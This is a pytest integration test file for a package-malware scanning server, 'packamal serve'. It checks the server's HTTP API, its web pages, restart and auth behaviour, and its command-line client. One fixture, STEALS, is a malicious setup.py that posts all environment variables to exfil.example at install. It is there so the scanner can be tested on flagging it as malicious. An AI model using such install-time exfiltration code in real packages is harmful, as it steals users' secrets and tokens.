"""`packamal serve` as people start it: one program, real HTTP, a real scan in a child, the API and the pages."""

from __future__ import annotations

import http.cookiejar
import json
import os
import re
import select
import signal
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

pytestmark = pytest.mark.allow_hosts(["127.0.0.1"])
PROGRAM = [sys.executable, "-m", "packamal", "serve", "--port", "0"]
START_S, SCAN_S = 60, 90


class Served:
    """A running `packamal serve` and what speaks to it."""

    def __init__(self, folder: Path) -> None:
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("PACKAMAL_", "DJANGO_"))}
        environment = {**kept, "PACKAMAL_SERVER_DATA_DIR": str(folder), "no_proxy": "127.0.0.1"}
        self.folder = folder
        with (folder.parent / "serve.log").open("wb") as log:
            self.child = subprocess.Popen(
                PROGRAM, env=environment, stdout=subprocess.PIPE, stderr=log, cwd=folder.parent
            )
        assert self.child.stdout
        assert select.select([self.child.stdout], [], [], START_S)[0], "said nothing"
        said = self.child.stdout.readline().decode()
        found = re.fullmatch(r"Packamal is at (http://127\.0\.0\.1:\d+)/ \(API key in (.+)\)\n", said)
        assert found, said + (folder.parent / "serve.log").read_text()
        self.address, self.key = found[1], Path(found[2]).read_text().strip()
        cookies = urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
        self.browser = urllib.request.build_opener(urllib.request.ProxyHandler({}), cookies)

    def api(self, path: str, body: object = None):
        request = urllib.request.Request(
            f"{self.address}/api/v1{path}", headers={"Authorization": f"Bearer {self.key}"}
        )
        if body is not None:
            request.data = json.dumps(body).encode()
            request.add_header("Content-Type", "application/json")
        return self.browser.open(request, timeout=30)

    def page(self, path: str, form: dict[str, str] | None = None):
        data = urllib.parse.urlencode(form).encode() if form else None
        return self.browser.open(f"{self.address}{path}", data, timeout=30)

    def final(self, analysis_id: str) -> dict:
        ends = time.monotonic() + SCAN_S
        while time.monotonic() < ends:
            body = json.load(self.api(f"/analyses/{analysis_id}"))
            if body["state"] not in ("queued", "running"):
                return body
            time.sleep(0.2)
        raise AssertionError(body)

    def stop(self, number: int = signal.SIGTERM) -> int:
        self.child.send_signal(number)
        status = self.child.wait(30)
        self.child.stdout.close()
        return status


@pytest.fixture
def served(index, tmp_path):
    started = []

    def start():
        started.append(Served(tmp_path / "data"))
        return started[-1]

    yield start
    for one in started:
        if one.child.poll() is None:
            one.child.kill()
            one.child.wait()
            one.child.stdout.close()


def test_a_package_is_submitted_scanned_and_reported_in_api_and_page(index, served, tmp_path):
    server = served()
    answer = server.api("/analyses", {"purl": index.add("small", "1.0"), "lane": "interactive"})
    assert answer.status == 202
    body = json.load(answer)
    done = server.final(body["id"])
    assert (done["state"], done["verdict"]["level"]) == ("done", "clean"), done
    assert json.load(server.api(f"/analyses/{body['id']}/report"))["purl"] == "pkg:pypi/small@1.0"
    assert "banner cle" in server.page(f"/analyses/{body['id']}/report").read().decode()

    token = re.search(r'name="csrfmiddlewaretoken" value="(\w+)"', server.page("/").read().decode())[1]
    live = server.page("/", {"q": index.add("other", "2.0"), "csrfmiddlewaretoken": token})
    assert re.fullmatch(rf"{server.address}/analyses/[0-9a-f-]{{36}}", live.url)
    assert server.final(live.url.rpartition("/")[2])["purl"] == "pkg:pypi/other@2.0"

    assert stat.S_IMODE(server.folder.stat().st_mode) == 0o700
    assert server.stop() == 0
    assert (tmp_path / "serve.log").read_text() == ""


def test_what_it_knew_is_known_after_a_restart(index, served):
    first = served()
    body = json.load(first.api("/analyses", {"purl": index.add("small", "1.0")}))
    first.final(body["id"])
    key = first.key
    first.stop()
    second = served()
    assert second.key == key
    answer = second.api("/analyses", {"purl": "pkg:pypi/small@1.0"})
    assert (answer.status, json.load(answer)["id"]) == (200, body["id"])


def test_a_second_one_on_the_same_folder_is_refused_in_one_line(served):
    server = served()
    environment = {**os.environ, "PACKAMAL_SERVER_SHAPE": "embedded", "PACKAMAL_SERVER_DATA_DIR": str(server.folder)}
    done = subprocess.run(PROGRAM, env=environment, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert done.stderr.startswith("packamal: error: ")
    assert done.stderr.count("\n") == 1


def test_without_a_key_it_answers_nothing(served):
    server = served()
    server.key = ""
    with pytest.raises(urllib.error.HTTPError) as caught:
        server.api("/analyses", {"purl": "pkg:pypi/small"})
    assert caught.value.code == 401
    caught.value.close()


STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""


def client(server, *words):
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("PACKAMAL_", "DJANGO_"))}
    environment = {**kept, "PACKAMAL_URL": server.address, "PACKAMAL_KEY": server.key, "no_proxy": "127.0.0.1"}
    command = [sys.executable, "-m", "packamal", *words]
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=120, check=False)


def test_the_client_submits_waits_and_ends_as_scan_does(index, served, tmp_path):
    server = served()
    index.add("small", "1.0")
    index.add("greedy", "1.0", STEALS)
    lock, archive = tmp_path / "requirements.txt", tmp_path / "mine-1.0.tar.gz"
    lock.write_text("small==1.0\n")
    archive.write_bytes(index.files["greedy-1.0.tar.gz"])

    ids = client(server, "submit", "pkg:pypi/small@1.0", "--lock", str(lock))
    assert (ids.returncode, ids.stderr, len(ids.stdout.splitlines())) == (0, "", 1)
    analysis_id = ids.stdout.strip()
    watched = client(server, "watch", analysis_id, "--format", "json")
    assert (watched.returncode, json.loads(watched.stdout)["purl"]) == (0, "pkg:pypi/small@1.0"), watched.stderr
    shown = client(server, "report", analysis_id, "--format", "csv")
    assert (shown.returncode, shown.stdout.partition(",")[0]) == (0, "type")

    bad = client(server, "submit", "--wait", "--format", "jsonl", "pkg:pypi/small@1.0", str(archive))
    assert bad.returncode == 1, bad.stderr
    assert [json.loads(line)["verdict"]["level"] for line in bad.stdout.splitlines()] == ["clean", "malicious"]
    gone = client(server, "submit", "--wait", "pkg:pypi/not-there@1.0")
    assert (gone.returncode, gone.stdout) == (3, "")
    assert "not-there" in gone.stderr


def test_the_client_says_in_one_line_what_is_wrong(index, served):
    server = served()
    unknown = client(server, "watch", "00000000-0000-4000-8000-000000000000")
    assert (unknown.returncode, unknown.stderr.count("\n")) == (3, 1)
    server.key = "pkm_000000000000_" + "a" * 43
    refused = client(server, "submit", "pkg:pypi/small@1.0")
    assert (refused.returncode, refused.stderr.count("\n")) == (2, 1)
    assert server.key not in refused.stderr
    server.address = "http://packamal.example"
    plain = client(server, "submit", "pkg:pypi/small@1.0")
    assert (plain.returncode, "https" in plain.stderr) == (2, True)
